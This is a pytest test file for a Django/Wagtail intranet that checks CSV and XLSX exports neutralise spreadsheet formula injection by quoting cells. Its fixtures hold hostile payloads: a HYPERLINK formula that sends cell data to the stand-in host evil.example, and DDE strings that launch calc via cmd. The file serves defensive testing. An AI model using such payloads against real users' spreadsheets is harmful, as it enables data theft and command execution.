"""Formula injection in the spreadsheets the product writes (OWASP «CSV Injection»).

Every export is generated with hostile values where people put their own words into it
(a user who names themselves `=HYPERLINK(…)`, an anonymous sign-in attempt with such a
username, a unit, a position, an article title, a feedback comment…), then opened the
way a reader's program would open it: the CSV with the csv module, the XLSX with
openpyxl. No cell is a formula or begins with a formula character; the hostile text is
there, behind a single quote; real numbers, negative ones too, stay numbers. A guard
fails when an exporting admin view is not made safe (intranet.exports)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, resolve, reverse
from openpyxl import load_workbook

from intranet import exports
from tests.cases.conftest import make_case  # noqa: F401  (fixtures)
from tests.kb.conftest import kb  # noqa: F401

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C2,"Подробнее")&"'
HOSTILE = [HYPERLINK, "+7-921-000", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]  # fmt: skip
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


# ------------------------------------------------------------------- the helper


@pytest.mark.parametrize("value", HOSTILE)
def test_text_starting_with_a_formula_character_gets_a_quote(value):
    assert exports.neutralise(value) == "'" + value
    assert exports.neutralise(exports.neutralise(value)) == "'" + value  # idempotent
    assert exports.csv_row([value, "Иванов"]) == ["'" + value, "Иванов"]
    assert exports.xlsx_value(value) == "'" + value


@pytest.mark.parametrize("value", [-5, -4.5, 0, 12_500, None, True, dt.date(2026, 1, 1),
                                   "Иванов И. И.", "—", "'=уже в кавычках", "a=b", ""])  # fmt: skip
def test_everything_else_is_written_as_it_is(value):
    assert exports.neutralise(value) == value
    assert exports.xlsx_value(value) == value


def test_xlsx_text_loses_the_characters_xml_cannot_carry():
    assert exports.xlsx_value("Иванов\x00\x07\x1b И.") == "Иванов И."


# ------------------------------------------------------------------- reading back


def _csv_cells(content: bytes, delimiter: str = ",") -> list[list[str]]:
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _xlsx_cells(content: bytes) -> list[list]:
    """Every cell of every sheet; fails on a formula cell."""
    book = load_workbook(io.BytesIO(content))
    rows = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
            rows.append([cell.value for cell in row])
    return rows


def _assert_inert(rows: list[list], hostile: list[str], where: str) -> None:
    """No text cell begins with a formula character; each hostile value is in some cell,
    behind its quote."""
    live = [v for row in rows for v in row if isinstance(v, str) and v.startswith(TRIGGERS)]
    assert live == [], (where, live)
    cells = [v for row in rows for v in row if isinstance(v, str)]
    for value in hostile:
        assert any(("'" + value) in cell for cell in cells), (where, value, cells[:40])


# ------------------------------------------------------------------- the heads' report


def test_the_heads_report_carries_hostile_names_inert(client, org, make_case):  # noqa: F811
    """An executor who names themselves with a formula, and a unit whose short name is
    one: the quality breakdowns name both, in the CSV and the XLSX."""
    from cases.quality.models import QualityReview
    from intranet.models import Unit

    unit = org.units["ОДС"]
    case = make_case(state="assigned")
    Unit.objects.filter(pk=unit.pk).update(short_name="@ОДС+1")
    org.executor.first_name, org.executor.last_name, org.executor.patronymic = "", HYPERLINK, ""
    org.executor.save()
    QualityReview.objects.create(
        case=case, unit=unit, executor=org.executor, reviewer=org.head, total=80,
        complete=2, accurate=2, meets_need=1, plain_language=1, channels=2, on_time=2,
        courteous=2,
    )  # fmt: skip
    client.force_login(org.head)
    today = dt.date.today()
    period = {"start": f"{today.year}-01-01", "end": today.isoformat()}
    exported = client.get(reverse("reports:report"), dict(period, format="csv"))
    assert exported.status_code == 200
    rows = _csv_cells(exported.content, delimiter=";")
    _assert_inert(rows, [HYPERLINK, "@ОДС+1"], "report csv")
    assert ["Оценка качества по исполнителям", "'" + HYPERLINK, "80,0\xa0%"] in rows
    xlsx = client.get(reverse("reports:report"), dict(period, format="xlsx"))
    rows = _xlsx_cells(xlsx.content)
    _assert_inert(rows, [HYPERLINK, "@ОДС+1"], "report xlsx")
    assert ["Оценка качества по исполнителям", "'" + HYPERLINK, 0.8] in rows


def test_real_negative_numbers_stay_numbers_in_the_report_exports():
    """The value column is written as a number (XLSX) or as the page writes it (CSV),
    never quoted, even when it is negative; a label that looks like one is text."""
    from cases.reports import figures
    from cases.reports.views import _csv, _xlsx

    report = figures.Report(start=dt.date(2026, 1, 1), end=dt.date(2026, 1, 31),
                            received=-3, median_days=-1.5)  # fmt: skip
    report.breakdowns.append(figures.Breakdown("x", "-Раздел", [(HYPERLINK, -2.5), ("-1", 4)]))
    rows = _csv_cells(_csv(report).content, delimiter=";")
    assert ["Сводка", "Поступило", "-3"] in rows
    assert ["Сводка", "Медиана срока ответа, рабочих дней", "-1,5"] in rows
    assert ["'-Раздел", "'" + HYPERLINK, "-2,5"] in rows and ["'-Раздел", "'-1", "4"] in rows
    rows = _xlsx_cells(_xlsx(report).content)
    assert ["Сводка", "Поступило", -3] in rows
    assert ["Сводка", "Медиана срока ответа, рабочих дней", -1.5] in rows
    assert ["'-Раздел", "'" + HYPERLINK, -2.5] in rows and ["'-Раздел", "'-1", 4] in rows


# ------------------------------------------------------------------- the admin's exports


def test_a_hostile_username_at_sign_in_lands_inert_in_the_audit_export(client, administrator):
    """An anonymous visitor tries to sign in as `=HYPERLINK(…)`; the failed sign-in is in
    the audit log, and its CSV and XLSX show the name as text."""
    from intranet.audit.models import AuditAction, AuditEvent

    anonymous = Client()
    anonymous.post(reverse("login"), {"username": HYPERLINK, "password": "не тот"})
    assert AuditEvent.objects.filter(action=AuditAction.LOGIN_FAILED, actor_repr=HYPERLINK)
    client.force_login(administrator)
    response = client.get("/admin/audit/", {"export": "csv"})
    assert response.status_code == 200
    rows = _csv_cells(_body(response))
    _assert_inert(rows, [HYPERLINK], "audit csv")
    response = client.get("/admin/audit/", {"export": "xlsx"})
    assert response.status_code == 200
    _assert_inert(_xlsx_cells(_body(response)), [HYPERLINK], "audit xlsx")


def _hostile_admin_data(users) -> None:
    """Hostile values in each admin listing that exports: a user's name (Wagtail's site
    history, aging and locked pages), a page title, a unit, a position, a legal act, a
    reader's feedback comment."""
    from wagtail.log_actions import log

    from intranet.models import StaffProfile, Unit
    from kb.models import ArticleFeedback, ArticlePage, LegalAct

    editor = users["editor"]
    editor.first_name, editor.last_name, editor.patronymic = "", HYPERLINK, ""
    editor.save()
    page = ArticlePage.objects.live().filter(owner_unit__short_name="ОДС").first()
    ArticlePage.objects.filter(pk=page.pk).update(
        title="=1+1 заголовок", draft_title="=1+1 заголовок", locked=True, locked_by=editor,
        locked_at=page.last_published_at,
    )  # fmt: skip
    page.refresh_from_db()
    log(instance=page, action="wagtail.publish", user=editor)
    Unit.objects.filter(short_name="ОДС").update(name="+Отдел", phone="-0000")
    StaffProfile.objects.filter(user=users["executor"]).update(position="@Начальник")
    LegalAct.objects.create(kind=LegalAct.Kind.FEDERAL_LAW, number="1-ФЗ",
                            date=dt.date(2026, 1, 1), title="=Закон+1")  # fmt: skip
    ArticleFeedback.objects.create(article=page, unit=page.owner_unit, helpful=False,
                                   comment="-" + HYPERLINK)  # fmt: skip


ADMIN_EXPORTS = {
    "site history": ("/admin/reports/site-history/", [HYPERLINK]),
    "aging pages": ("/admin/reports/aging-pages/", ["=1+1 заголовок"]),  # names by username
    "locked pages": ("/admin/reports/locked/", [HYPERLINK, "=1+1 заголовок"]),
    "units": ("/admin/org/units/", ["+Отдел", "-0000"]),
    "staff": ("/admin/org/staff/", ["@Начальник"]),
    "legal acts": ("/admin/kb/legal-acts/", ["=Закон+1"]),
    "readers' feedback": ("/admin/kb/feedback/", ["=1+1 заголовок", "-" + HYPERLINK]),
}


def test_every_admin_export_carries_hostile_values_inert(client, kb):  # noqa: F811
    _hostile_admin_data(kb["users"])
    client.force_login(kb["users"]["admin"])
    for name, (url, hostile) in ADMIN_EXPORTS.items():
        for fmt in ("csv", "xlsx"):
            response = client.get(url, {"export": fmt})
            assert response.status_code == 200, (name, fmt, response.status_code)
            body = _body(response)
            rows = _csv_cells(body) if fmt == "csv" else _xlsx_cells(body)
            _assert_inert(rows, hostile, f"{name} {fmt}")


# ------------------------------------------------------------------- the guard


def _patterns(resolver, namespace=None):
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            ns = pattern.namespace or namespace
            if pattern.namespace and namespace:
                ns = f"{namespace}:{pattern.namespace}"
            yield from _patterns(pattern, ns)
        elif isinstance(pattern, URLPattern):
            yield pattern, namespace


def test_every_exporting_admin_view_is_made_safe():
    """Each URL whose view can export a spreadsheet (Wagtail's SpreadsheetExportMixin
    with columns to export) resolves to a view with intranet.exports' mixin: ours, or
    Wagtail's own taken over by intranet.exports.admin_urlpatterns()."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    checked, unsafe = [], []
    for pattern, namespace in _patterns(get_resolver()):
        view_class = getattr(pattern.callback, "view_class", None)
        if not (view_class and issubclass(view_class, SpreadsheetExportMixin)):
            continue
        initkwargs = getattr(pattern.callback, "view_initkwargs", {}) or {}
        if not initkwargs.get("list_export", view_class.list_export):
            continue
        if not pattern.name:  # ours (intranet.exports): checked by what the named resolve to
            assert issubclass(view_class, exports.SafeSpreadsheetExportMixin), pattern
            continue
        name = f"{namespace}:{pattern.name}" if namespace else pattern.name
        url = reverse(name, kwargs=dict.fromkeys(pattern.pattern.converters, 1))
        served = getattr(resolve(url).func, "view_class", None)
        checked.append(url)
        if not (served and issubclass(served, exports.SafeSpreadsheetExportMixin)):
            unsafe.append(f"{url} ({name}): {served}")
    assert not unsafe, "\n".join(unsafe)
    assert "/admin/audit/" in checked and "/admin/reports/site-history/" in checked
